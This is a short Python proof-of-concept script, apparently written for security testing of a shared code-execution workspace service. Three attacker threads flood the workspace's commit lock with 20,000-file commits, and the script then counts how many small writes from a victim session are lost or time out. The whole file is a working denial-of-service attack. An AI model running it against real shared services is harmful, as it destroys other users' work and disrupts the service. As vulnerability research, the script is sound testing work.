# Three attacker calls (one session) keep the workspace's commit lock busy with 20k-file commits;
# a victim session's small calls have to win the lock within their own limits.timeout.
import sys, time, json, os, threading
sys.path.insert(0,"/tmp/atk29x")
from mcp import *
N=int(sys.argv[1]) if len(sys.argv)>1 else 20000
ROUNDS=int(sys.argv[2]) if len(sys.argv)>2 else 5
att=Sess(); vic=Sess()
stop=False
def attacker(k):
    j=0
    while not stop:
        j+=1
        py(att,'''
import os
d='big%d_%d'
os.makedirs(d,exist_ok=True)
for i in range(%d): open(d+'/f%%d'%%i,'w').close()
'''%(k,j,N))
ths=[threading.Thread(target=attacker,args=(k,)) for k in range(3)]
for i,t in enumerate(ths): t.start(); time.sleep(0.7)
time.sleep(3)
lost=0
for v in range(ROUNDS):
    t=time.time()
    st,r=py(vic,"open('victim-%d.txt','w').write('important result\\n');print('done')"%v)
    txt=json.dumps(r)
    ok=os.path.exists("/tmp/atk29x/ws2/victim-%d.txt"%v)
    if not ok: lost+=1
    print("victim %d: %.1fs landed=%s %s"%(v,time.time()-t,ok,txt[:420]))
stop=True
for t in ths: t.join()
print("victim calls whose writes were lost: %d of %d"%(lost,ROUNDS))
